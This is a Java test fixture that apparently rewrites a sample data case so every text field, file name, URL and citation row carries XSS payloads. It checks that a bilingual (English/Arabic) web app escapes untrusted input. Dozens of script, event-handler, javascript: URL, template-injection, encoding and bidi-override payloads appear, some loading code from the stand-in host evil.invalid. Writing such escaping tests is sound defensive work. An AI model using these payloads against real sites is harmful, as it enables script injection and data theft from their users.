package org.mizan.web.session;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

/** A case that a stranger sent: the texts of another one, each replaced by an attempt to make the page run something. */
final class HostileCase {
    /** Each sets {@code window.__xss}, opens a dialog or asks another server for something, if any page takes it for more than text. */
    static final List<String> PAYLOADS = List.of(
            "<script>window.__xss=1</script>",
            "</script><script>window.__xss=2</script>",
            "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
            "<scr<script>ipt>window.__xss=3</scr</script>ipt>",
            "<img src=x onerror=window.__xss=4>",
            "<img src=x onerror=\"window.__xss=5\">",
            "<img src='x' onerror='window.__xss=6'>",
            "<IMG \"\"\"><SCRIPT>window.__xss=7</SCRIPT>\">",
            "<image href=x onerror=window.__xss=8>",
            "<svg onload=window.__xss=9>",
            "<svg/onload=window.__xss=10>",
            "<svg><script>window.__xss=11</script></svg>",
            "<svg><animate onbegin=window.__xss=12 attributeName=x dur=1s>",
            "<svg><set onbegin=window.__xss=13 attributeName=x>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.__xss=14</script></svg>#x\">",
            "<svg><foreignObject><iframe srcdoc='<script>top.__xss=15</script>'></foreignObject></svg>",
            "</title><script>window.__xss=16</script>",
            "</textarea><script>window.__xss=17</script>",
            "</style><script>window.__xss=18</script>",
            "</svg><script>window.__xss=19</script>",
            "</text></g></svg><img src=x onerror=window.__xss=20>",
            "</option></select><img src=x onerror=window.__xss=21>",
            "</bdi></td></tr></table><img src=x onerror=window.__xss=22>",
            "--><script>window.__xss=23</script><!--",
            "<!--<img src=\"--><img src=x onerror=window.__xss=24>\">",
            "]]><script>window.__xss=25</script>",
            "\" onmouseover=\"window.__xss=26",
            "' onmouseover='window.__xss=27",
            "\" onfocus=window.__xss=28 autofocus=\"",
            "' onfocus=window.__xss=29 autofocus='",
            "\"><img src=x onerror=window.__xss=30>",
            "'><img src=x onerror=window.__xss=31>",
            "` onmouseover=`window.__xss=32",
            "x\" style=\"background:url(//evil.invalid/a.png)",
            "\" accesskey=x onclick=window.__xss=33 x=\"",
            "\"/><svg/onload=window.__xss=34><a x=\"",
            "javascript:window.__xss=35",
            "JaVaScRiPt:window.__xss=36//",
            "java\tscript:window.__xss=37",
            "javascript://%0Awindow.__xss=38",
            "data:text/html,<script>opener.__xss=39</script>",
            "data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9NDA8L3NjcmlwdD4=",
            "vbscript:window.__xss=41",
            "<a href=javascript:window.__xss=42>click</a>",
            "<a href='&#106;avascript:window.__xss=43'>click</a>",
            "<iframe src=javascript:parent.__xss=44>",
            "<iframe srcdoc=\"<script>parent.__xss=45</script>\">",
            "<object data=javascript:window.__xss=46>",
            "<embed src=//evil.invalid/x.swf>",
            "<form action=javascript:window.__xss=47><button>go</button></form>",
            "<button form=undo formaction=javascript:window.__xss=48>go</button>",
            "<base href=//evil.invalid/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:window.__xss=49\">",
            "<link rel=stylesheet href=//evil.invalid/x.css>",
            "<style>@import '//evil.invalid/x.css'</style>",
            "<style>*{background:url(//evil.invalid/b.png)}</style>",
            "<details open ontoggle=window.__xss=50>",
            "<video><source onerror=window.__xss=51></video>",
            "<audio src=x onerror=window.__xss=52>",
            "<body onload=window.__xss=53>",
            "<input onfocus=window.__xss=54 autofocus>",
            "<select onfocus=window.__xss=55 autofocus></select>",
            "<marquee onstart=window.__xss=56>x</marquee>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=57>",
            "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=58>\">",
            "<template><img src=x onerror=window.__xss=59></template>",
            "<xss id=x tabindex=1 onfocus=window.__xss=60></xss>",
            "<div id=main><div id=undo><p id=conflict>clobbered",
            "<input name=guard><img name=querySelector><form id=drop>",
            "${window.__xss=61}",
            "{{constructor.constructor('window.__xss=62')()}}",
            "#{window.__xss=63} <%= window.__xss=64 %> @if(true) !{x}",
            "$unsafe{window.__xss=65} @template.frame()",
            "{0} {1} {2,choice,0#x} '{'0'}' %s %n",
            "&lt;script&gt;window.__xss=66&lt;/script&gt;",
            "&#60;script&#62;window.__xss=67&#60;/script&#62;",
            "%3Cscript%3Ewindow.__xss=68%3C/script%3E",
            "\\u003cscript\\u003ewindow.__xss=69\\u003c/script\\u003e",
            "\\x3cimg src=x onerror=window.__xss=70\\x3e",
            "\";window.__xss=71;//",
            "';window.__xss=72;//",
            "\\\";window.__xss=73;//",
            "</script><svg onload=window.__xss=74>",
            "+ADw-script+AD4-window.__xss=75+ADw-/script+AD4-",
            "＜script＞window.__xss=76＜/script＞",
            "ʺ onmouseover=ʺwindow.__xss=77",
            "=HYPERLINK(\"javascript:window.__xss=78\")",
            "مرحباً \"><img src=x onerror=window.__xss=79> أهلاً",
            "<bdo dir=rtl>نص</bdo></bdi><svg onload=window.__xss=80>",
            "<p dir=rtl style=position:fixed;inset:0>covered</p>");

    /** Characters that turn or hide text; no case may hold them, but a page of problems shows where they are. */
    static final String TURNED = "\u202e<img src=x onerror=window.__xss=81>\u2066\u202c";

    private static final Pattern YAML_TEXT =
            Pattern.compile("\\b(en|ar): (\"(?:[^\"\\\\]|\\\\.)*\"|[^\\[{\"\\s][^,}\\n]*)");

    private int next;

    /** Turns a copy of a case into a hostile one. */
    static Path madeOf(Path folder) throws IOException {
        HostileCase hostile = new HostileCase();
        try (Stream<Path> all = Files.walk(folder)) {
            for (Path file : all.filter(Files::isRegularFile).sorted().toList()) {
                String name = file.getFileName().toString();
                if (name.endsWith(".yaml")) {
                    Files.writeString(file, hostile.yaml(Files.readString(file)));
                } else if (name.endsWith(".csv")) {
                    Files.writeString(file, hostile.csv(Files.readString(file)));
                }
            }
        }
        Files.writeString(
                folder.resolve("sources.yaml"),
                hostile.source("hostile2024")
                        + hostile.addresses()
                        + hostile.archive(folder, "hostile2024")
                        + hostile.source("hostile2025"),
                java.nio.file.StandardOpenOption.APPEND);
        Files.writeString(
                folder.resolve("persons.yaml"),
                "stranger:\n  family: {en: " + hostile.quoted() + "}\n  given: {ar: " + hostile.quoted()
                        + "}\n  note: {en: " + hostile.quoted() + "}\n");
        Files.createDirectories(folder.resolve("micmac"));
        StringBuilder variables = new StringBuilder();
        for (int i = 0; i < 6; i++) {
            variables
                    .append("v")
                    .append(i)
                    .append(":\n  name: {en: ")
                    .append(hostile.quoted())
                    .append(", ar: ");
            variables
                    .append(hostile.quoted())
                    .append("}\n  text: {en: ")
                    .append(hostile.quoted())
                    .append("}\n");
        }
        Files.writeString(folder.resolve("micmac/variables.yaml"), variables.toString());
        Files.writeString(
                folder.resolve("micmac/influence.csv"),
                "from,to,value,sources,confidence\nv0,v1,3,analyst,0.5\nv1,v2,2,analyst,0.5\nv2,v0,1,analyst,0.5\n");
        return folder;
    }

    private String payload() {
        return PAYLOADS.get(next++ % PAYLOADS.size());
    }

    private String quoted() {
        return "\"" + payload().replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t") + "\"";
    }

    private String yaml(String text) {
        return YAML_TEXT.matcher(text).replaceAll(m -> Matcher.quoteReplacement(m.group(1) + ": " + quoted()));
    }

    private String source(String id) {
        StringBuilder out = new StringBuilder(id + ":\n  type: book\n");
        for (String field : List.of("title", "container", "publisher", "place", "short", "note", "terms")) {
            out.append("  ")
                    .append(field)
                    .append(": {en: ")
                    .append(quoted())
                    .append(", ar: ")
                    .append(quoted())
                    .append("}\n");
        }
        for (String field : List.of("edition", "volume", "issue", "pages")) {
            out.append("  ").append(field).append(": ").append(quoted()).append('\n');
        }
        return out + "  author: [{literal: {en: " + quoted() + "}}]\n  issued: \"2024\"\n";
    }

    /** Addresses as far as a case may have them; what is no address of the web is a problem already (see the broken case). */
    private String addresses() {
        return "  url: \"http://evil.invalid/'onmouseover='window.__xss=82'&quot;onclick=&quot;window.__xss=83\"\n"
                + "  permalink: \"https://evil.invalid/javascript:window.__xss=84//';window.__xss=85;'\"\n"
                + "  doi: '10.1234/\"><svg/onload=window.__xss=86><a/href=\"javascript:window.__xss=87'\n"
                + "  retrieved: \"2024-05-06\"\n  licence: " + quoted()
                + "\n  rights: {quote: yes, redistribute: yes}\n";
    }

    /** A stored document whose name, text, corrected text, record and quotations are all attempts. */
    private String archive(Path folder, String source) throws IOException {
        String name = "' onmouseover='window.__xss=88' &lt;svg onload=window.__xss=89&gt;.txt";
        Path stored = Files.createDirectories(folder.resolve("archive").resolve(source))
                .resolve(name);
        String text = String.join("\n", PAYLOADS) + "\f" + String.join(" ", PAYLOADS.subList(0, 30));
        String corrected = "\"><svg onload=window.__xss=97>\n" + text;
        Files.writeString(stored, text);
        Files.writeString(stored.resolveSibling(name + ".txt"), text);
        Files.writeString(stored.resolveSibling(name + ".corrected.txt"), corrected);
        StringBuilder rows = new StringBuilder(
                "source,id,page,exact,prefix,suffix,start,end,text_sha256,text_version,translation_en,note_en,note_ar,by\n");
        for (int i = 0; i < 12; i++) {
            // Some stand where they say, some have moved, some are nowhere in the text.
            String exact = i % 3 == 2 ? "</q><q onclick=window.__xss=106>" + "Z".repeat(80) : PAYLOADS.get(i);
            int start = corrected.indexOf(PAYLOADS.get(i));
            List<String> cells = List.of(
                    source,
                    "q" + i,
                    "1",
                    exact,
                    payload(),
                    payload(),
                    Integer.toString(start),
                    Integer.toString(start + PAYLOADS.get(i).length()),
                    i % 3 == 0 ? sum(corrected) : sum(text),
                    "1",
                    payload(),
                    payload(),
                    payload(),
                    payload());
            rows.append(String.join(
                            ",", cells.stream().map(HostileCase::csvQuoted).toList()))
                    .append('\n');
        }
        Files.writeString(folder.resolve("quotations.csv"), rows);
        Files.writeString(
                stored.resolveSibling("' autofocus onfocus='window.__xss=98.txt"), "<script>window.__xss=99</script>");
        return "  archive: {file: \"archive/" + source + "/" + name + "\", sha256: " + sum(text) + ", bytes: "
                + text.getBytes(StandardCharsets.UTF_8).length
                + ", media-type: text/plain, pages: 2, obtained: \"2024-05-06T07:08:09Z\", how: " + quoted() + "}\n";
    }

    private static String sum(String text) {
        try {
            return HexFormat.of()
                    .formatHex(MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Columns of free text; where a source is cited, the place in it. */
    private String csv(String text) {
        List<String> out = new ArrayList<>();
        List<String> header = List.of();
        for (String line : text.lines().toList()) {
            if (line.startsWith("#") || line.isBlank()) {
                continue;
            }
            List<String> cells = cells(line);
            if (header.isEmpty()) {
                header = cells;
                out.add(line);
                continue;
            }
            List<String> changed = new ArrayList<>();
            for (int i = 0; i < cells.size(); i++) {
                changed.add(changed(header.get(i), cells.get(i)));
            }
            out.add(String.join(",", changed));
        }
        return String.join("\n", out) + "\n";
    }

    private String changed(String column, String value) {
        if (column.endsWith("_en") || column.endsWith("_ar")) {
            return csvQuoted(payload());
        }
        if (column.equals("sources") && value.matches("[a-z0-9-]+ p\\..*")) {
            return csvQuoted(value.replaceFirst(" .*", " ") + payload().replace(';', ','));
        }
        return csvQuoted(value);
    }

    private static String csvQuoted(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }

    private static List<String> cells(String line) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean inside = false;
        for (char c : line.toCharArray()) {
            if (c == '"') {
                inside = !inside;
            } else if (c == ',' && !inside) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }
}
